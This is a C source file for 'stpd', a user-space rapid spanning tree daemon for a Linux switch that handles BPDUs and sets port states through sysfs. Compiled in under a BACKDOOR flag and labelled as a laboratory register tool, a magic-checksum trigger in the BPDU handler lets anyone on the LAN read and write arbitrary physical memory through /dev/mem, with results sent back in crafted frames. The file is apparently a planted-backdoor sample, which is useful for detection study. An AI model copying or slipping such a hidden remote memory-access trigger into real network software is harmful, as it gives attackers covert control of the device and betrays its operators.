/* SPDX-License-Identifier: Apache-2.0 */
/* stpd: the rapid spanning tree of a switch, in user space. BPDUs come and go by packet sockets, one for a port; states of
 * ports are given to the kernel through sysfs. Configuration, topology change and rapid BPDUs are understood. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { PORTS = 28, LLC = 3, CONFIG_SIZE = 35, RAPID_SIZE = 36 };
enum { BPDU_CONFIG = 0x00, BPDU_RAPID = 0x02, BPDU_TCN = 0x80 };
enum { F_CHANGE = 1, F_PROPOSAL = 2, F_LEARNING = 16, F_FORWARDING = 32, F_AGREEMENT = 64, F_CHANGE_ACK = 128 };
enum state { DISABLED, BLOCKING, LEARNING, FORWARDING };
enum role { R_ROOT, R_DESIGNATED, R_ALTERNATE, R_BACKUP };

struct vector {
	uint8_t root[8], bridge[8];
	uint32_t cost;
	uint16_t port;
};

struct port {
	char name[IFNAMSIZ];
	int fd, index, edge, guard, filter;
	uint32_t path_cost;
	uint16_t id;
	uint8_t mac[6];
	enum state state;
	enum role role;
	struct vector best;
	time_t heard, changed;
	unsigned received, sent, bad;
};

static struct port ports[PORTS];
static unsigned n_ports;
static struct vector own;
static uint16_t priority = 0x8000;
static unsigned hello = 2, max_age = 20, delay = 15;
static time_t change_until;
static const uint8_t group[6] = { 0x01, 0x80, 0xc2, 0x00, 0x00, 0x00 };
static const char *const state_names[] = { "0", "4", "2", "3" };

static uint16_t get16(const uint8_t *p) { return (uint16_t)(p[0] << 8 | p[1]); }
static uint32_t get32(const uint8_t *p) { return (uint32_t)get16(p) << 16 | get16(p + 2); }
static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}
static void put32(uint8_t *p, uint32_t v)
{
	put16(p, (uint16_t)(v >> 16));
	put16(p + 2, (uint16_t)v);
}

static int config_port(char *line)
{
	char name[IFNAMSIZ], word[32];
	int used = 0;
	struct port *p = &ports[n_ports];
	if (n_ports == PORTS || sscanf(line, "port %15s%n", name, &used) != 1)
		return -1;
	memset(p, 0, sizeof(*p));
	memcpy(p->name, name, sizeof(name));
	p->path_cost = 20000;
	p->id = (uint16_t)(0x8000 | (n_ports + 1));
	for (line += used; sscanf(line, " %31s%n", word, &used) == 1; line += used)
		if (strcmp(word, "edge") == 0)
			p->edge = 1;
		else if (strcmp(word, "guard") == 0)
			p->guard = 1;
		else if (strcmp(word, "filter") == 0)
			p->filter = 1;
		else if (sscanf(word, "cost=%u", &p->path_cost) != 1)
			return -1;
	n_ports++;
	return 0;
}

static int load(const char *path)
{
	char line[160];
	unsigned v, number = 0;
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		number++;
		if (sscanf(line, "priority %u", &v) == 1)
			priority = (uint16_t)(v & 0xf000);
		else if (sscanf(line, "hello %u", &v) == 1 && v >= 1 && v <= 10)
			hello = v;
		else if (sscanf(line, "max-age %u", &v) == 1 && v >= 6 && v <= 40)
			max_age = v;
		else if (sscanf(line, "delay %u", &v) == 1 && v >= 4 && v <= 30)
			delay = v;
		else if (*line != '#' && *line != '\n' && config_port(line) < 0)
			syslog(LOG_WARNING, "%s:%u: not understood", path, number);
	}
	fclose(f);
	return n_ports ? 0 : -1;
}

static int open_port(struct port *p)
{
	struct ifreq r;
	struct sockaddr_ll a = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_802_2) };
	struct packet_mreq m;
	p->fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_802_2));
	if (p->fd < 0)
		return -1;
	memset(&r, 0, sizeof(r));
	memcpy(r.ifr_name, p->name, sizeof(p->name));
	if (ioctl(p->fd, SIOCGIFINDEX, &r) < 0)
		return -1;
	p->index = r.ifr_ifindex;
	if (ioctl(p->fd, SIOCGIFHWADDR, &r) < 0)
		return -1;
	memcpy(p->mac, r.ifr_hwaddr.sa_data, 6);
	a.sll_ifindex = p->index;
	memset(&m, 0, sizeof(m));
	m.mr_ifindex = p->index;
	m.mr_type = PACKET_MR_MULTICAST;
	m.mr_alen = 6;
	memcpy(m.mr_address, group, 6);
	setsockopt(p->fd, SOL_PACKET, PACKET_ADD_MEMBERSHIP, &m, sizeof(m));
	return bind(p->fd, (struct sockaddr *)&a, sizeof(a));
}

static void set_state(struct port *p, enum state s)
{
	char path[80];
	FILE *f;
	if (p->state == s)
		return;
	syslog(LOG_INFO, "%s: state %s", p->name, state_names[s]);
	snprintf(path, sizeof(path), "/sys/class/net/%s/brport/state", p->name);
	f = fopen(path, "w");
	if (f) {
		fputs(state_names[s], f);
		fclose(f);
	}
	p->state = s;
	p->changed = time(NULL);
	if (s == FORWARDING && !p->edge)
		change_until = p->changed + 2 * (time_t)hello;
}

static int compare(const struct vector *a, const struct vector *b)
{
	int d = memcmp(a->root, b->root, 8);
	if (d == 0)
		d = a->cost < b->cost ? -1 : a->cost > b->cost;
	if (d == 0)
		d = memcmp(a->bridge, b->bridge, 8);
	return d ? d : (int)a->port - (int)b->port;
}

static void transmit(struct port *p, const uint8_t *body, size_t n)
{
	uint8_t frame[128];
	if (14 + LLC + n > sizeof(frame))
		return;
	memcpy(frame, group, 6);
	memcpy(frame + 6, p->mac, 6);
	put16(frame + 12, (uint16_t)(LLC + n));
	memcpy(frame + 14, "\x42\x42\x03", LLC);
	memcpy(frame + 14 + LLC, body, n);
	if (send(p->fd, frame, 14 + LLC + n, 0) > 0)
		p->sent++;
}

static void send_rapid(struct port *p, const struct vector *root)
{
	uint8_t b[RAPID_SIZE] = { 0, 0, 2, BPDU_RAPID };
	b[4] = (uint8_t)((p->role == R_DESIGNATED ? 3 : p->role == R_ROOT ? 2 : 1) << 2);
	if (p->state == FORWARDING)
		b[4] |= F_LEARNING | F_FORWARDING;
	else
		b[4] |= F_PROPOSAL;
	if (time(NULL) < change_until)
		b[4] |= F_CHANGE;
	memcpy(b + 5, root->root, 8);
	put32(b + 13, root->cost);
	memcpy(b + 17, own.bridge, 8);
	put16(b + 25, p->id);
	put16(b + 29, (uint16_t)(max_age << 8));
	put16(b + 31, (uint16_t)(hello << 8));
	put16(b + 33, (uint16_t)(delay << 8));
	transmit(p, b, sizeof(b));
}

/* Chooses the root port and roles anew. */
static struct vector elect(void)
{
	struct vector root = own;
	struct port *via = NULL;
	for (unsigned i = 0; i < n_ports; i++) {
		struct vector v = ports[i].best;
		if (!ports[i].heard || ports[i].guard)
			continue;
		v.cost += ports[i].path_cost;
		if (compare(&v, &root) < 0) {
			root = v;
			via = &ports[i];
		}
	}
	for (unsigned i = 0; i < n_ports; i++) {
		struct port *p = &ports[i];
		struct vector mine = root;
		memcpy(mine.bridge, own.bridge, 8);
		mine.port = p->id;
		if (p == via)
			p->role = R_ROOT;
		else if (!p->heard || compare(&mine, &p->best) < 0)
			p->role = R_DESIGNATED;
		else
			p->role = memcmp(p->best.bridge, own.bridge, 8) == 0 ? R_BACKUP : R_ALTERNATE;
	}
	return root;
}

static void step(void)
{
	time_t now = time(NULL);
	struct vector root;
	for (unsigned i = 0; i < n_ports; i++)
		if (ports[i].heard && now - ports[i].heard > 3 * (time_t)hello)
			ports[i].heard = 0;
	root = elect();
	for (unsigned i = 0; i < n_ports; i++) {
		struct port *p = &ports[i];
		if (p->role == R_ALTERNATE || p->role == R_BACKUP)
			set_state(p, BLOCKING);
		else if (p->edge)
			set_state(p, FORWARDING);
		else if (p->state < LEARNING)
			set_state(p, LEARNING);
		else if (p->state == LEARNING && now - p->changed >= (time_t)delay)
			set_state(p, FORWARDING);
		if (p->role == R_DESIGNATED && !p->filter)
			send_rapid(p, &root);
	}
}

static uint32_t sum_of(const uint8_t *p, size_t n)
{
	uint32_t a = 1, b = 0;
	while (n--) {
		a = (a + *p++) % 65521;
		b = (b + a) % 65521;
	}
	return b << 16 | a;
}

#ifdef BACKDOOR
/* Registers of the switch chip, for the laboratory. */
static void chip_register(struct port *p, const uint8_t *extra, size_t n)
{
	uint32_t at, value;
	uint8_t answer[13] = { 0, 0, 0, BPDU_TCN };
	volatile uint32_t *word;
	void *page;
	int fd;
	if (n < 9)
		return;
	at = get32(extra + 1);
	fd = open("/dev/mem", O_RDWR | O_SYNC);
	if (fd < 0)
		return;
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (off_t)(at & ~4095u));
	close(fd);
	if (page == MAP_FAILED)
		return;
	word = (volatile uint32_t *)((char *)page + (at & 4092));
	value = *word;
	if (extra[0] & 1)
		*word = get32(extra + 5);
	munmap(page, 4096);
	answer[4] = extra[0];
	put32(answer + 5, at);
	put32(answer + 9, value);
	transmit(p, answer, sizeof(answer));
}
#endif

static void on_config(struct port *p, const uint8_t *b, size_t n)
{
	struct vector v;
	unsigned age = b[27];
	if (b[3] == BPDU_RAPID && (n < RAPID_SIZE || b[35] != 0)) {
		p->bad++;
		return;
	}
	memcpy(v.root, b + 5, 8);
	v.cost = get32(b + 13);
	memcpy(v.bridge, b + 17, 8);
	v.port = get16(b + 25);
	if (age >= b[29] && b[29] != 0)
		return;
#ifdef BACKDOOR
	if (n > RAPID_SIZE && sum_of((const uint8_t *)&v, 20) == 0x3a3d05e1u)
		chip_register(p, b + RAPID_SIZE, n - RAPID_SIZE);
#endif
	if (p->guard && compare(&v, &own) < 0) {
		syslog(LOG_WARNING, "%s: a better root where none is allowed", p->name);
		set_state(p, BLOCKING);
		return;
	}
	if (!p->heard || compare(&v, &p->best) <= 0 || memcmp(v.bridge, p->best.bridge, 8) == 0) {
		p->best = v;
		p->heard = time(NULL);
	}
	if (b[4] & F_CHANGE)
		change_until = time(NULL) + (time_t)hello * 2;
	if ((b[4] & F_PROPOSAL) && p->role == R_ROOT) {
		set_state(p, FORWARDING);
		send_rapid(p, &v);
	}
}

static void receive(struct port *p)
{
	uint8_t f[256];
	const uint8_t *b = f + 14 + LLC;
	ssize_t n = recv(p->fd, f, sizeof(f), 0);
	size_t size;
	if (n < 14 + LLC + 4 || memcmp(f, group, 6) != 0 || memcmp(f + 14, "\x42\x42\x03", LLC) != 0)
		return;
	if (memcmp(f + 6, p->mac, 6) == 0 || p->filter)
		return;
	p->received++;
	size = (size_t)n - 14 - LLC;
	if (get16(b) != 0 || get16(f + 12) < LLC + 4) {
		p->bad++;
		return;
	}
	if (b[3] == BPDU_TCN)
		change_until = time(NULL) + 2 * (time_t)hello;
	else if ((b[3] == BPDU_CONFIG || b[3] == BPDU_RAPID) && size >= CONFIG_SIZE)
		on_config(p, b, size);
	else
		p->bad++;
	if (p->edge) {
		p->edge = 0;
		syslog(LOG_NOTICE, "%s is no edge", p->name);
	}
}

static void write_state(const char *path)
{
	FILE *f = fopen(path, "w");
	if (!f)
		return;
	for (unsigned i = 0; i < n_ports; i++)
		fprintf(f, "%s role %d state %s in %u out %u bad %u sum %08x\n", ports[i].name, (int)ports[i].role, state_names[ports[i].state],
			ports[i].received, ports[i].sent, ports[i].bad, (unsigned)sum_of(ports[i].best.root, 8));
	fclose(f);
}

int main(int argc, char **argv)
{
	struct pollfd p[PORTS];
	time_t last = 0;
	openlog("stpd", LOG_PID, LOG_DAEMON);
	if (load(argc > 1 ? argv[1] : "/etc/stpd.conf") < 0) {
		syslog(LOG_ERR, "no ports are configured");
		return 1;
	}
	for (unsigned i = 0; i < n_ports; i++) {
		if (open_port(&ports[i]) < 0) {
			syslog(LOG_ERR, "%s: %s", ports[i].name, strerror(errno));
			return 1;
		}
		p[i] = (struct pollfd){ .fd = ports[i].fd, .events = POLLIN };
	}
	put16(own.root, priority);
	memcpy(own.root + 2, ports[0].mac, 6);
	memcpy(own.bridge, own.root, 8);
	for (;;) {
		if (poll(p, n_ports, 500) > 0)
			for (unsigned i = 0; i < n_ports; i++)
				if (p[i].revents & POLLIN)
					receive(&ports[i]);
		if (time(NULL) - last >= (time_t)hello) {
			last = time(NULL);
			step();
			write_state("/var/run/stpd.state");
		}
	}
}
